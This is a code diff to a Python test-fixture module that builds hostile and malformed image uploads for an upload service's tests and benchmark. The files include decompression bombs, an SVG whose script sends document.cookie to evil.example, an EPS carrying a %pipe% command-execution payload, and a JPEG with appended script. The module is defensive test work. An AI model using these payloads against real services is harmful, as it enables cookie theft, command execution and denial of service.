@@ -1,13 +1,15 @@
-"""Crafted files, byte by byte: the structures the guards stop, grown to any size, and probes that
-sit exactly at each guard's limit. Shared by the hostile benchmark (bench/hostile.py) and the tests.
+"""Crafted files, byte by byte: the structures the guards stop, grown to any size, probes that sit
+exactly at each guard's limit, and the malformed or unsupported uploads broken clients send. The one
+source of hostile files for the tests and the hostile benchmark (bench/hostile.py).
 
 - ATTACKS: name -> Attack. One kind of hostile file at a given scale (scans, segments, chunks...),
   each of which was slow or memory-hungry before the structure walk existed.
 - PROBES: guard name -> Probe. `build(n)` makes an otherwise ordinary file that counts `n` for that
   guard (to within `step`): build(limit) passes the walk, build(limit + step) is refused.
+- REJECTED: name -> (builder, code). Uploads that end `failed` with that code.
 
 Image data comes from Pillow where it can encode it; HEVC tiles come from two tiny files in
-bench/fixtures/ (made once with pillow-heif's x265: pi-heif cannot encode).
+tests/fixtures/ (made once with pillow-heif's x265: pi-heif cannot encode).
 """
 
 from __future__ import annotations
@@ -24,6 +26,7 @@ from pathlib import Path
 from PIL import Image
 
 from chalicelib.imaging.structure import GUARDS, check_structure
+from tests import images
 
 FIXTURES = Path(__file__).resolve().parent / "fixtures"
 MIB = 1024 * 1024
@@ -911,4 +914,130 @@ WORST: dict[str, Callable[[], bytes]] = {
     "bmff.tile_ratio": lambda: grid(1, 1, tile=2048, output=(1024, 1024)),
     "gif.canvas_ratio": _worst_gif_canvas,
     "webp.canvas_ratio": _worst_webp_canvas,
+}
+
+
+# ---------------------------------------------------------------- malformed and unsupported uploads
+def ihdr(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
+    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
+
+
+def png_from_chunks(width: int, height: int, *middle: bytes, idat: bytes | None = None) -> bytes:
+    if idat is None:
+        idat = zlib.compress(b"\x00" + b"\x00" * width * 3)  # one real row is enough to be a PNG
+    return PNG_SIGNATURE + ihdr(width, height) + b"".join(middle) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
+def zero_png(width: int, height: int) -> bytes:
+    """A complete, valid, all-black RGB PNG: tiny on disk, huge in memory (9000x9000 is ~236 KB)."""
+    compressor = zlib.compressobj(9)
+    row = b"\x00" * (width * 3 + 1)
+    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    return png_from_chunks(width, height, idat=body)
+
+
+def ztxt_bomb() -> bytes:
+    """A zTXt chunk that inflates to 100 MB of text."""
+    payload = b"Comment\x00\x00" + zlib.compress(b"A" * 100_000_000, 9)
+    return png_from_chunks(64, 64, chunk(b"zTXt", payload))
+
+
+def iccp_bomb() -> bytes:
+    """An iCCP 'profile' that inflates to 100 MB."""
+    payload = b"evil\x00\x00" + zlib.compress(b"\x00" * 100_000_000, 9)
+    return png_from_chunks(64, 64, chunk(b"iCCP", payload))
+
+
+def corrupt_idat() -> bytes:
+    """Valid chunk structure, but the deflate stream inside IDAT is broken."""
+    data = bytearray(images.png(200, 150))
+    start = data.index(b"IDAT") + 4
+    data[start + 2 : start + 400] = b"\xff" * 398  # after the zlib header: an invalid block type
+    return bytes(data)
+
+
+def many_frame_gif(frames: int, width: int = 1000, height: int = 1000) -> bytes:
+    """An animated GIF of `frames` full-size frames, each a few bytes of LZW (clear, end)."""
+    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+    frame = (
+        b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
+        + b"\x2c"
+        + struct.pack("<HHHHB", 0, 0, width, height, 0)
+        + b"\x02\x01\x2c\x00"  # LZW min size 2; one sub-block holding codes clear(4), end(5)
+    )
+    return b"GIF89a" + screen + frame * frames + b"\x3b"
+
+
+def many_frame_webp(frames: int, size: int = 1000) -> bytes:
+    """Alternating full-size frames (identical ones would be merged by the encoder)."""
+    dark, light = Image.new("RGB", (size, size), (10, 20, 30)), Image.new("RGB", (size, size), (200, 210, 220))
+    rest = [light if i % 2 == 0 else dark for i in range(frames - 1)]
+    return images.encode(dark, "WEBP", save_all=True, append_images=rest, duration=50, quality=10, method=0)
+
+
+def svg_with_script() -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
+        b'<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>'
+        b'<rect width="100" height="100" fill="red"/></svg>'
+    )
+
+
+def eps() -> bytes:
+    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id) (w) file\nshowpage\n"
+
+
+def psd() -> bytes:
+    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3)
+    return header + struct.pack(">I", 0) * 3 + struct.pack(">H", 0) + b"\x00" * (100 * 100 * 3)
+
+
+def ico() -> bytes:
+    return images.encode(images.photo(32, 32), "ICO")
+
+
+def tiff_file() -> bytes:
+    return images.encode(images.photo(64, 64), "TIFF")
+
+
+def bmp() -> bytes:
+    return images.encode(images.photo(64, 64), "BMP")
+
+
+def jpeg_with_html() -> bytes:
+    return images.jpeg(400, 300) + b"<html><body><script>alert(document.domain)</script></body></html>"
+
+
+# name -> (builder, expected failure code). Shared by the image-core and the handler tests.
+REJECTED: dict[str, tuple[Callable[[], bytes], str]] = {
+    "empty": (lambda: b"", "empty"),
+    "random-bytes-named-jpg": (lambda: bytes(range(256)) * 40, "not_an_image"),
+    "png-header-100000x100000": (lambda: images.png_header(100_000, 100_000), "too_many_pixels"),
+    "png-header-10000x10000": (lambda: images.png_header(10_000, 10_000), "too_many_pixels"),
+    "png-header-1e8x1": (lambda: images.png_header(10**8, 1), "too_many_pixels"),
+    "png-header-12001x100": (lambda: images.png_header(12_001, 100), "dimensions_too_large"),
+    "zero-png-9000x9000": (lambda: zero_png(9000, 9000), "too_many_pixels"),
+    "ztxt-bomb": (ztxt_bomb, "decompression_bomb"),
+    "iccp-bomb": (iccp_bomb, "decompression_bomb"),
+    "truncated-jpeg": (lambda: images.jpeg(800, 600)[:5000], "truncated"),
+    "corrupt-idat": (corrupt_idat, "corrupt"),
+    "gif-300-frames-1mp": (lambda: many_frame_gif(300), "too_many_frames"),
+    "apng-150-frames-1mp": (lambda: apng(150, 1000), "too_many_frames"),
+    "webp-120-frames-1mp": (lambda: many_frame_webp(120), "too_many_frames"),
+    "tiff": (tiff_file, "unsupported_format"),
+    "bmp": (bmp, "unsupported_format"),
+    "ico": (ico, "unsupported_format"),
+    "psd": (psd, "unsupported_format"),
+    "eps": (eps, "unsupported_format"),
+    "svg-with-script": (svg_with_script, "unsupported_format"),
+    # Refused by the structure walk, before Pillow parses them (ATTACKS above, docs/guards.md).
+    "jpeg-5000-scans": (lambda: ATTACKS["jpeg-repeated-scans"].build(5000), "too_many_scans"),
+    "jpeg-2mb-of-small-exif-segments": (lambda: ATTACKS["jpeg-small-exif-segments"].build(20_000), "too_much_metadata"),
+    "jpeg-1m-empty-app1": (lambda: ATTACKS["jpeg-empty-app1"].build(1_000_000), "too_much_metadata"),
+    "jpeg-mpf-overlapping-values": (lambda: ATTACKS["jpeg-mpf-overlapping-values"].build(1), "too_much_metadata"),
+    "png-repeated-iccp": (lambda: ATTACKS["png-repeated-iccp"].build(100), "too_much_metadata"),
+    "icc-1000-pipeline-elements": (lambda: ATTACKS["icc-repeated-pipeline-elements"].build(1000), "too_much_metadata"),
+    "gif-long-comment": (lambda: ATTACKS["gif-long-comment"].build(1_000_000), "too_much_metadata"),
+    "gif-huge-screen": (lambda: ATTACKS["gif-huge-screen"].build(4166), "canvas_too_large"),
+    "webp-huge-canvas": (lambda: ATTACKS["webp-huge-canvas"].build(4166), "canvas_too_large"),
 }
